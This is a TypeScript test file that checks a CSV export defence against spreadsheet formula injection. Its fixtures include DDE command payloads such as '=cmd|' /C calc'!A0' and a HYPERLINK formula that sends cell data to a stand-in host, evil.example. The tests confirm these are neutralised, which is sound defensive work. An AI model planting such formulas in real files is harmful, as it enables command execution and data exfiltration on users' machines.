import { parse } from 'csv-parse/sync';
import type { ValidationReport } from '@prometheus/protocol';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestHub, type TestHub } from '../../test/harness.js';
import { spreadsheetSafe } from './spreadsheet-safe.js';
import { uploadOk } from './test-helpers.js';

// The CSV export against formula injection (OWASP "CSV Injection"): cells and headers a spreadsheet would run
// as formulas come back prefixed with a single quote; numbers, signed ones included, come back as they were.
let t: TestHub;
let admin: string;
let adminId: string;

beforeAll(async () => {
  t = await createTestHub();
  admin = await t.adminToken();
  adminId = (await t.hub.services.usersRepo.findByUsername('admin'))!.id;
});
afterAll(() => t.close());

/** The export parsed by an independent CSV reader: header row first. */
async function exported(id: string): Promise<string[][]> {
  const res = await t.request('GET', `/api/v1/datasets/${id}/export`, { token: admin });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
  return parse(await res.text(), { relax_column_count: false }) as string[][];
}

describe('spreadsheetSafe', () => {
  it.each([
    ['=1+1', "'=1+1"], ['+cmd', "'+cmd"], ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"], ['@SUM(A1)', "'@SUM(A1)"],
    ['\tTAB', "'\tTAB"], ['\r=1', "'\r=1"], ['-', "'-"], ['--5', "'--5"], ['-3.2e', "'-3.2e"],
  ])('neutralises %j', (cell, safe) => expect(spreadsheetSafe(cell)).toBe(safe));

  it.each(['-3.2', '+5', '-0.5e-3', '-.5', '12', 'supply_temp', ' =1 starts with a space', '', "'=1", 'a=b'])('keeps %j', (cell) => {
    expect(spreadsheetSafe(cell)).toBe(cell);
  });
});

describe('GET /datasets/:id/export', () => {
  const header = ['timestamp', '=HYPERLINK("http://evil.example/?"&A1)', '@risk', 'note'];
  const rows = [
    ['2026-01-01T00:00:00Z', '-3.2', '+5', '=1+1'],
    ['2026-01-01T00:01:00Z', '4', '-0.5e-3', '@SUM(A1:A2)'],
    ['2026-01-01T00:02:00Z', '5.5', '7', "-2+3+cmd|' /C calc'!A0"],
    ['2026-01-01T00:03:00Z', '6', '8', '\tindented'],
    ['2026-01-01T00:04:00Z', '7', '9', '\rreturn'],
    ['2026-01-01T00:05:00Z', '8', '10', 'plain, "quoted" text'],
  ];
  const quote = (c: string) => `"${c.replace(/"/g, '""')}"`;
  const csv = `${[header, ...rows].map((r) => r.map(quote).join(',')).join('\n')}\n`;
  const expected = [header, ...rows].map((r) => r.map(spreadsheetSafe));

  it('neutralises cells and headers while editable (CSV) and after locking (Parquet); numbers stay numbers', async () => {
    const ds = await uploadOk(t, admin, csv, { name: 'Injection attempt' });
    expect(ds.columns).toEqual(header);
    const editable = await exported(ds.id);
    expect(editable).toEqual(expected);
    expect(editable[0]).toEqual(['timestamp', `'=HYPERLINK("http://evil.example/?"&A1)`, "'@risk", 'note']);
    expect(editable.map((r) => r[1])).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1)", '-3.2', '4', '5.5', '6', '7', '8']);
    expect(editable.map((r) => r[3]).slice(1)).toEqual(["'=1+1", "'@SUM(A1:A2)", "'-2+3+cmd|' /C calc'!A0", "'\tindented", "'\rreturn", 'plain, "quoted" text']);
    // The stored data is untouched: the preview still shows what was uploaded.
    const preview = (await (await t.request('GET', `/api/v1/datasets/${ds.id}/preview`, { token: admin })).json()) as { rows: string[][] };
    expect(preview.rows[0]![3]).toBe('=1+1');
    const report = (await (await t.request('POST', `/api/v1/datasets/${ds.id}/validate`, { token: admin })).json()) as ValidationReport;
    expect(report).toMatchObject({ valid: true, locked: true });
    expect(await exported(ds.id)).toEqual(expected);
  });

  it('edge datasets: device-supplied sensor names are neutralised in the header, negative readings stay numbers', async () => {
    const datasets = t.hub.services.datasets;
    const id = await datasets.ensureEdgeDataset({ targetId: 'tgt_csv', targetName: 'AHU injection', ownerId: adminId, equipmentType: 'air_handler' });
    await datasets.appendReadings(id, [
      { timestamp: Date.UTC(2026, 0, 1), values: { '=cmd|\' /C calc\'!A0': -3.2, '@sum': 1, supply_temp: 55 } },
      { timestamp: Date.UTC(2026, 0, 1, 0, 1), values: { '=cmd|\' /C calc\'!A0': -1, '@sum': -2.5, supply_temp: 56 } },
    ]);
    const [head, ...body] = await exported(id);
    expect(head).toEqual(['timestamp', "'=cmd|' /C calc'!A0", "'@sum", 'supply_temp']);
    expect(body.map((r) => r.slice(1))).toEqual([['-3.2', '1', '55'], ['-1', '-2.5', '56']]);
  });
});
